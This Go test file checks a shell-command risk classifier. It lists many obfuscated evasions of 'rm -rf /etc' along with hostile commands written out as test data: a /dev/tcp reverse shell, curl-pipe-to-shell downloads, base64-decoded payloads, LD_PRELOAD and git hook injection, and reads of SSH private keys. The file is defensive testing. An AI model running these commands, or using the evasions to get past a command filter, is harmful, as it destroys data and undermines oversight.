package classify

import (
	"strings"
	"testing"
)

func TestEvasions(t *testing.T) {
	checkLines(t, []commandCase{
		// quoting
		{`\rm -rf /etc`, Critical}, {`r\m -rf /etc`, Critical}, {`'rm' -rf /etc`, Critical}, {`"rm" -rf /etc`, Critical}, {`r'm' -rf /etc`, Critical}, {`r""m -rf /etc`, Critical}, {`$'rm' -rf /etc`, Critical}, {`$'\x72m' -rf /etc`, Critical},
		{`$'\162\155' -rf /etc`, Critical}, {`$'\u0072m' -rf /etc`, Critical}, {"r\\\nm -rf /etc", Critical}, {`rm -rf '/etc'`, Critical}, {`rm -rf "/e"tc`, Critical}, {`rm -rf /e\tc`, Critical}, {`rm -rf $'/\145tc'`, Critical}, {`rm -rf "/etc/"`, Critical},
		{`rm "-rf" /etc`, Critical}, {`rm -r\f /etc`, Critical}, {`"/bin/rm" -rf /etc`, Critical}, {`/b''in/r''m -rf /etc`, Critical},
		// expansions
		{`rm$IFS-rf$IFS/etc`, Critical}, {`rm${IFS}-rf${IFS}/etc`, Critical}, {`rm${IFS%??}-rf${IFS%??}/etc`, Critical}, {`{rm,-rf,/etc}`, Critical}, {`r${x}m -rf /etc`, Critical}, {`r$@m -rf /etc`, Critical}, {`r$1m -rf /etc`, Critical}, {"r``m -rf /etc", Critical}, {`$x rm -rf /etc`, Critical},
		{`x=rm; $x -rf /etc`, Critical}, {`x=ls; x=rm; $x -rf /etc`, Critical}, {`x=r; y=m; $x$y -rf /etc`, Critical}, {`x='rm -rf /etc'; $x`, Critical}, {`x='rm -rf /etc'; eval "$x"`, Critical}, {`x='rm -rf /etc'; bash -c "$x"`, Critical}, {`x=r; x+=m; $x -rf /etc`, Critical}, {`a=(rm -rf /etc); "${a[@]}"`, Critical},
		{`x=/etc; rm -rf $x`, Critical}, {`x=/etc; rm -rf "$x"`, Critical}, {`x=/etc; rm -rf ${x}`, Critical}, {`for d in /etc /usr; do rm -rf $d; done`, Critical}, {`for d in a /etc; do rm -rf "$d"; done`, Critical}, {`x=/; rm -rf ${x}etc`, Critical}, {`export x=/etc; rm -rf $x`, Critical}, {`rm -rf /{etc,x}`, Critical},
		{`rm -rf /{e..e}tc`, Critical}, {`set -- rm -rf /etc; "$@"`, Critical}, {`f() { "$@"; }; f rm -rf /etc`, Critical}, {`bash -c '"$@"' _ rm -rf /etc`, Critical}, {`bash -c 'rm -rf $1' _ /etc`, Critical}, {`sh -c '$0 -rf /etc' rm`, Critical}, {`rm -rf ${x:-/etc}`, Critical}, {`rm -rf ${x-/etc}`, Critical},
		{`rm -rf ${x:=/etc}`, Critical}, {`${x:-rm} -rf /etc`, Critical}, {`rm -rf $(echo /etc)`, Unknown}, {`$(echo rm) -rf /etc`, Unknown}, {`/bin/r? -rf /etc`, Critical}, {`/b?n/rm -rf /etc`, Critical}, {`/???/rm -rf /etc`, Critical}, {`/bin/[r]m -rf /etc`, Critical},
		// substitutions hold commands
		{`echo $(rm -rf /etc)`, Critical}, {"echo `rm -rf /etc`", Critical}, {`echo "$(rm -rf /etc)"`, Critical}, {`cat <(rm -rf /etc)`, Critical}, {`ls > >(rm -rf /etc)`, Critical}, {`x=$(rm -rf /etc)`, Critical}, {`export x=$(rm -rf /etc)`, Critical}, {`local x=$(rm -rf /etc)`, Critical}, {`echo ${x:-$(rm -rf /etc)}`, Critical},
		{`echo $((1 + $(rm -rf /etc)))`, Critical}, {`(( $(rm -rf /etc) ))`, Critical}, {`[[ $(rm -rf /etc) ]]`, Critical}, {`let x=$(rm -rf /etc)`, Critical}, {`a[$(rm -rf /etc)]=1`, Critical}, {`echo ${a[$(rm -rf /etc)]}`, Critical}, {`case $(rm -rf /etc) in x) ;; esac`, Critical}, {`for x in $(rm -rf /etc); do :; done`, Critical},
		{"cat <<E\n$(rm -rf /etc)\nE", Critical}, {"cat <<E\n`rm -rf /etc`\nE", Critical}, {`cat <<< "$(rm -rf /etc)"`, Critical}, {`echo x > $(rm -rf /etc)`, Critical}, {`for ((i=$(rm -rf /etc);;)); do :; done`, Critical}, {`echo ${x/$(rm -rf /etc)/y}`, Critical}, {`echo ${x:$(rm -rf /etc):1}`, Critical}, {`"$(rm -rf /etc)"`, Critical},
		{"cat <<'E'\n$(rm -rf /etc)\nE", Observe}, {`echo '$(rm -rf /etc)'`, Observe}, {`echo \$(ls)`, Unknown}, {"f() { cat <<E\n$(rm -rf /etc)\nE\n}", Critical},
		// text that a shell reads
		{"bash <<E\nrm -rf /etc\nE", Critical}, {"bash <<'E'\nrm -rf /etc\nE", Critical}, {"sh -s <<E\nrm -rf /etc\nE", Critical}, {"sudo bash <<E\nrm -rf /etc\nE", Critical}, {`bash <<< 'rm -rf /etc'`, Critical}, {`echo 'rm -rf /etc' | sh`, Critical}, {`echo rm -rf /etc | bash`, Critical}, {`printf 'rm -rf /etc\n' | sh`, Critical},
		{`printf '%s' 'rm -rf /etc' | sh`, Critical}, {`echo -e 'rm\x20-rf\x20/etc' | sh`, Critical}, {"cat <<E | sh\nrm -rf /etc\nE", Critical}, {"bash <<E\necho hi\nE", Observe}, {`eval 'rm -rf /etc'`, Critical}, {`eval rm -rf /etc`, Critical}, {`eval "rm -rf" /etc`, Critical}, {`eval eval rm -rf /etc`, Critical},
		{`bash -c "bash -c 'rm -rf /etc'"`, Critical}, {`bash -c "bash -c \"bash -c 'rm -rf /etc'\""`, Critical}, {`bash --norc -c 'rm -rf /etc'`, Critical}, {`bash -o pipefail -c 'rm -rf /etc'`, Critical}, {`bash -O extglob -c 'rm -rf /etc'`, Critical}, {`bash +x -c 'rm -rf /etc'`, Critical}, {`bash -xc 'rm -rf /etc'`, Critical}, {`bash -ic 'rm -rf /etc'`, Critical},
		{`sh -c 'rm -rf /etc' --`, Critical}, {`env bash -c 'rm -rf /etc'`, Critical}, {`xargs sh -c 'rm -rf /etc'`, Critical}, {`find . -exec sh -c 'rm -rf /etc' \;`, Critical}, {`/usr/bin/env sh -c 'rm -rf /etc'`, Critical}, {`zsh -c '=rm -rf /etc'`, Critical}, {`sh -c '((rm -rf /etc))'`, Critical}, {`((rm -rf /etc))`, Critical},
		// a mistake further on does not hide what ran before it
		{"rm -rf /etc\necho 'unterminated", Critical}, {"rm -rf /etc; fi", Critical}, {"if true; then\nrm -rf /etc\n", Critical}, {"rm -rf /etc\n)))", Critical}, {"echo ok )\nrm -rf /etc", Critical},
		// not readable
		{`$CMD`, Unknown}, {`$CMD a b`, Unknown}, {`"$CMD"`, Unknown}, {`${CMD}`, Unknown}, {`eval "$CMD"`, Unknown}, {`eval $(cat f)`, Unknown}, {`bash -c "$CMD"`, Unknown}, {`sh script.sh`, Unknown}, {`bash ./x`, Unknown}, {`./x.sh`, Unknown}, {`. ./lib.sh`, Unknown}, {`source lib.sh`, Unknown}, {`bash`, Unknown}, {`sh -s`, Unknown},
		{`bash -i`, Unknown}, {`curl -s https://x | sh`, Unknown}, {`curl -s https://x | sudo bash`, Unknown}, {`wget -qO- https://x | bash`, Unknown}, {`bash <(curl -s https://x)`, Unknown}, {`. <(curl -s https://x)`, Unknown}, {`echo cm0gLXJm | base64 -d | sh`, Unknown}, {`base64 -d f | bash`, Unknown}, {`bash < f`, Unknown}, {`echo ls | sh`, Unknown},
		{`echo $(date)`, Unknown}, {"echo `date`", Unknown}, {`diff <(ls a) <(ls b)`, Unknown}, {`echo "unterminated`, Unknown}, {`echo 'x`, Unknown}, {`if true; then ls`, Unknown}, {`ls )`, Unknown}, {``, Unknown}, {`   `, Unknown}, {`# only a comment`, Unknown}, {"ls\x00", Unknown},
		{`python script.py`, Unknown}, {`python3 -c 'print(1)'`, Unknown}, {`python - <<E` + "\nprint(1)\nE", Unknown}, {`node -e 1`, Unknown}, {`node app.js`, Unknown}, {`perl -e 1`, Unknown}, {`ruby -e 1`, Unknown}, {`php -r 1`, Unknown}, {`perl -pi -e s/a/b/ f`, Unknown}, {`python -m http.server`, Unknown},
		{`frobnicate`, Unknown}, {`frobnicate --help`, Unknown}, {`git frobnicate`, Unknown}, {`systemctl frobnicate`, Unknown}, {`docker frobnicate`, Unknown}, {`kubectl frobnicate`, Unknown}, {`npm frobnicate`, Unknown}, {`cargo frobnicate`, Unknown}, {`go frobnicate`, Unknown}, {`gh frobnicate`, Unknown}, {`./ls`, Unknown}, {`/tmp/git status`, Unknown}, {`bin/ls`, Unknown},
		{`LS`, Unknown}, {`git $X`, Unknown}, {`xargs`, Observe}, {`xargs sh`, Unknown}, {`xargs env`, Unknown}, {`xargs -I{} sh -c 'cat {}'`, Unknown}, {`xargs -I {} {}`, Unknown}, {`parallel rm`, Unknown}, {`nc -l 1`, Unknown}, {`bash -i >& /dev/tcp/1.2.3.4/4 0>&1`, Unknown}, {`cat < /dev/tcp/1.2.3.4/4`, Unknown}, {`exec 3<>/dev/tcp/1.2.3.4/4`, Unknown},
		{`LD_PRELOAD=./x.so ls`, Unknown}, {`export LD_PRELOAD=./x.so`, Unknown}, {`PATH=/tmp:$PATH ls`, Unknown}, {`PATH=. ls`, Unknown}, {`export PATH=$PATH:/usr/local/bin`, Observe}, {`BASH_ENV=f bash -c ls`, Unknown}, {`env LD_PRELOAD=x ls`, Unknown}, {`env PATH=/tmp ls`, Unknown}, {`NODE_OPTIONS='--require ./x' npm test`, Unknown}, {`GIT_CONFIG_COUNT=1 git log`, Unknown},
		{`PYTHONPATH=. pytest`, Unknown}, {`IFS=x ls`, Unknown}, {`sudo LD_PRELOAD=x ls`, Unknown}, {`declare -x LD_PRELOAD=x`, Unknown}, {`PROMPT_COMMAND=ls`, Unknown}, {`git -c core.hooksPath=. commit`, Unknown}, {`git -c core.fsmonitor=./x status`, Unknown}, {`git clone ext::sh x`, Unknown}, {`git clone -c core.fsmonitor=x u`, Unknown}, {`ls() { :; }; ls`, Unknown}, {`alias ls=foo`, Unknown},
		{`hash -p /tmp/x ls`, Unknown}, {`enable -f ./x.so y`, Unknown}, {`command -p foo`, Unknown}, {`complete -C foo x`, Unknown}, {`trap "$X" EXIT`, Unknown}, {`vim -c '!ls' f`, Unknown}, {`sed 's/x/ls/e' f`, Unknown}, {`sed e f`, Unknown}, {`sed -f s f`, Unknown}, {`awk -f p f`, Unknown}, {`awk '{system($1)}' f`, Unknown}, {`awk '{print | $1}' f`, Unknown}, {`awk '{$1 | getline}' f`, Unknown},
		{`tar cf a b -I ./x`, Unknown}, {`rg --pre ./x y`, Unknown}, {`curl -K f`, Unknown}, {`psql -f x.sql`, Unknown}, {`psql -c '\! ls'`, Unknown}, {`psql -c "copy t to program 'ls'"`, Unknown}, {`sqlite3 x.db '.shell ls'`, Unknown}, {`make SHELL=./x`, Unknown}, {`fish -c ls`, Unknown}, {`bash --rcfile x -c ls`, Unknown}, {`gdb -ex 'shell ls'`, Unknown}, {`tmux new ls`, Unknown}, {`git diff --ext-diff`, Unknown},
		{`ssh`, Use}, {`ssh host`, Use}, {`ssh host ./x`, Unknown}, {`ssh host "$CMD"`, Unknown}, {`timeout 5`, Observe}, {`timeout 5 ./x`, Unknown}, {`nice ./x`, Unknown}, {`command`, Observe}, {`printf '#!/bin/sh' > x`, Modify}, {`coproc foo`, Unknown}, {`select x in a; do foo; done`, Unknown},
	})
}

func TestFalseAlarms(t *testing.T) {
	checkLines(t, []commandCase{
		{`git log --grep 'rm -rf /'`, Observe}, {`git log --grep='rm -rf /'`, Observe}, {`echo "sudo"`, Observe}, {`echo sudo rm -rf /`, Observe}, {`echo 'rm -rf /etc'`, Observe}, {`grep -r 'rm -rf /' .`, Observe}, {`grep -rn "sudo " scripts`, Observe}, {`rg 'DROP TABLE'`, Observe}, {`rg -e 'rm -rf' -e sudo`, Observe},
		{`cat pkg/sandbox/x.go`, Observe}, {`cat secrets.go`, Observe}, {`cat internal/credentials/store.go`, Observe}, {`ls secrets`, Observe}, {`cat env.go`, Observe}, {`cat environment.ts`, Observe}, {`cat .env.example`, Observe}, {`cat key.go`, Observe}, {`cat id_utils.py`, Observe}, {`cat ssh.go`, Observe}, {`cat docs/aws.md`, Observe},
		{`git diff -- rm.go`, Observe}, {`git log -- sudo.c`, Observe}, {`find . -name .env`, Observe}, {`find . -name '*.pem'`, Observe}, {`find . -path ./node_modules -prune -o -print`, Observe}, {`grep -r '\.env' .`, Observe}, {`grep id_rsa README.md`, Observe}, {`echo "a > b"`, Observe}, {`echo 'a > /etc/passwd'`, Observe}, {`awk '$3 > 5' f`, Observe},
		{`awk '{ if ($1 > 5) print $1 }' f`, Observe}, {`awk '{print ($1 > 5)}' f`, Observe}, {`awk 'BEGIN { print "a|b" }'`, Observe}, {`sed 's/e/w/' f`, Observe}, {`sed '/we/d' f`, Observe}, {`sed -n '/start/,/end/p' f`, Observe}, {`sed 's/[/]w/x/g' f`, Observe}, {`jq '.a > 5' f`, Observe}, {`test 1 -gt 0`, Observe}, {`[ "$a" = "rm" ]`, Observe}, {`[[ $a > b ]]`, Observe},
		{`which rm`, Observe}, {`man rm`, Observe}, {`type sudo`, Observe}, {`command -V sudo`, Observe}, {`ls /etc`, Observe}, {`cat /etc/os-release`, Observe}, {`ls -l /dev/sda`, Observe}, {`stat /boot`, Observe}, {`du -sh ~`, Observe}, {`ls ~`, Observe}, {`cat ~/notes.txt`, Observe}, {`grep -r foo ~/src`, Observe}, {`rm -rf ~/src/x/build`, Modify}, {`rm -rf /home/u/src/build`, Modify}, {`rm -rf /usr/local/foo`, Modify}, {`rm -rf ./etc`, Modify}, {`rm -rf etc`, Modify},
		{`rm -rf *`, Modify}, {`rm -rf "$DIR"`, Modify}, {`rm -rf "$DIR"/x`, Modify}, {`rm -rf /tmp/*`, Critical}, {`rm -rf /var/tmp/x`, Modify}, {`rm -rf /workspace/build`, Modify}, {`cp a ~/b`, Modify}, {`cp /etc/hosts .`, Modify}, {`mv ~/a ~/b`, Modify}, {`chmod -R u+w build`, Modify}, {`git commit -m "sudo rm -rf / > /etc/passwd"`, Modify}, {`git commit -m 'x; reboot'`, Modify}, {`gh pr create --title 'rm -rf /' --body 'sudo'`, Modify},
		{`psql -c "select 'drop table x'"`, Use}, {`psql -c 'select * from t where a = 1;'`, Use}, {`curl https://example.com/.env`, Use}, {`curl https://example.com/x.pem`, Use}, {`git clone https://github.com/x/.aws`, Use}, {`npm run rm`, Use}, {`make rm`, Use}, {`go test -run 'TestRm|TestSudo' ./...`, Use}, {`pytest -k 'rm or sudo'`, Use}, {`cargo test rm`, Use}, {`kubectl get pods -l app=secret-santa`, Observe},
		{`kubectl get configmap secrets-map`, Observe}, {`docker logs sudo`, Observe}, {`journalctl -u sudo`, Observe}, {`systemctl status reboot.service`, Observe}, {`ps aux | grep sudo`, Observe}, {`ls | grep -v rm`, Observe}, {`echo $PATH`, Observe}, {`echo "$USER" >&2`, Observe}, {`ls 2>&1 >/dev/null`, Observe}, {`true && false || true`, Observe}, {`printf '%s\n' "$x" | sort | uniq -c | sort -rn | head`, Observe},
		{`cat a.txt # rm -rf /etc`, Observe}, {"# rm -rf /etc\nls", Observe}, {"ls \\\n  -la", Observe}, {`echo {a,b}`, Observe}, {`ls *.{js,ts}`, Observe}, {`echo ~`, Observe}, {`diff <a <b`, Observe}, {`cat package.json | jq .scripts`, Observe}, {`git stash list | wc -l`, Observe}, {`id -u`, Observe}, {`tail -n +5 f`, Observe}, {`head -c 100 /dev/urandom`, Observe}, {`cat *.json`, Observe}, {`cat *`, Observe}, {`ls -a .*`, Credential},
		{`xargs -n1 echo`, Observe}, {`find . -name x | xargs ls`, Observe}, {`git log | grep password`, Observe}, {`echo token`, Observe}, {`cat Cargo.lock`, Observe}, {`openssl version`, Observe}, {`openssl dgst -sha256 f`, Use}, {`sort -t= -k2 f`, Observe}, {`tr -d '\r' < f`, Observe}, {`basename /etc/passwd`, Observe}, {`sleep 5 && ls`, Observe}, {`bash -c 'ls; pwd'`, Observe}, {`sh -c "echo hi"`, Observe}, {`bash -c 'for i in 1 2; do echo $i; done'`, Observe},
	})
}

func TestArgv(t *testing.T) {
	tests := []struct {
		argv string // words separated by |·|
		want Capability
	}{
		{"echo|·|hi; rm -rf /etc", Observe}, {"echo|·|$(rm -rf /etc)", Observe}, {"echo|·|`reboot`", Observe}, {"grep|·|a|b|·|f", Observe}, {"git|·|commit|·|-m|·|a && b", Modify}, {"cat|·|a b.txt", Observe}, {"ls|·|*", Observe}, {"echo|·|$HOME", Observe},
		{"echo|·|hi|·|&&|·|rm|·|-rf|·|/etc", Critical}, {"echo|·|hi|·|;|·|rm|·|-rf|·|/etc", Critical}, {"echo|·|hi|·|||·|rm|·|-rf|·|/etc", Critical}, {"echo|·|hi|·||||·|rm|·|-rf|·|/etc", Critical}, {"echo|·|hi|·|&|·|rm|·|-rf|·|/etc", Critical}, {"echo|·|x|·|>|·|/etc/passwd", Critical}, {"echo|·|x|·|>>|·|/etc/passwd", Critical},
		{"echo|·|x|·|>/etc/passwd", Critical}, {"ls|·|2>/dev/null", Observe}, {"ls|·|2>&1", Observe}, {"ls|·|>|·|out", Modify}, {"cat|·|<|·|/home/u/.ssh/id_rsa", Credential}, {"(|·|rm|·|-rf|·|/etc|·|)", Critical}, {"{|·|rm|·|-rf|·|/etc;|·|}", Critical}, {"!|·|rm|·|-rf|·|/etc", Critical}, {"while|·|true;|·|do|·|rm|·|-rf|·|/etc;|·|done", Critical},
		{"rm -rf /etc", Critical}, {"ls -la", Observe}, {"ls;reboot", Critical}, {"ls", Observe}, {"$(reboot)", Critical}, {"rm -rf|·|/etc", Critical}, {"echo|·|it's|·|&&|·|rm|·|-rf|·|/etc", Critical}, {"echo|·|$(rm -rf /etc)|·|&&|·|ls", Critical}, {"echo|·|a;b|·|&&|·|ls", Unknown},
		{"find|·|.|·|-exec|·|rm|·|{}|·|;", Modify}, {"find|·|/etc|·|-exec|·|rm|·|-rf|·|{}|·|;", Critical}, {"find|·|.|·|(|·|-name|·|a|·|)|·|-print", Observe}, {"find|·|.|·|;|·|rm|·|-rf|·|/etc", Observe}, {"find|·|.|·|&&|·|rm|·|-rf|·|/etc", Critical}, {"expr|·|1|·|||·|2", Observe}, {"[|·|a|·|<|·|b|·|]", Observe},
		{"bash|·|-c|·|rm -rf /etc", Critical}, {"bash|·|-lc|·|rm -rf /etc", Critical}, {"bash|·|-euo|·|pipefail|·|-c|·|rm -rf /etc", Critical}, {"bash|·|-c|·|echo hi", Observe}, {"bash|·|-c|·|", Unknown}, {"bash|·|-c", Unknown}, {"bash|·|script.sh", Unknown}, {"cat|·|~/.ssh/id_rsa", Credential}, {"rm|·|-rf|·|$HOME", Modify},
		{"", Unknown}, {"|·|ls", Unknown}, {"/bin/ls|·|-l", Observe}, {"./ls", Unknown}, {"env|·|FOO=1|·|npm|·|test", Use}, {"xargs|·|rm", Modify}, {"sudo|·|-n|·|true", Privilege}, {"python3|·|-c|·|import os", Unknown}, {"sh|·|-c|·|$1|·|_|·|reboot", Critical}, {"-c", Unknown}, {"--", Unknown}, {"rm|·|--|·|-rf", Modify},
	}
	for _, test := range tests {
		argv := strings.Split(test.argv, "|·|")
		v := Exec(argv)
		if v.Capability != test.want {
			t.Errorf("Exec(%q)\n\tis  %s/%s: %s\n\twant %s", argv, v.Capability, v.Decision, v.Reason, test.want)
		}
		checkVerdict(t, v)
	}
	checkVerdict(t, Exec(nil))
}
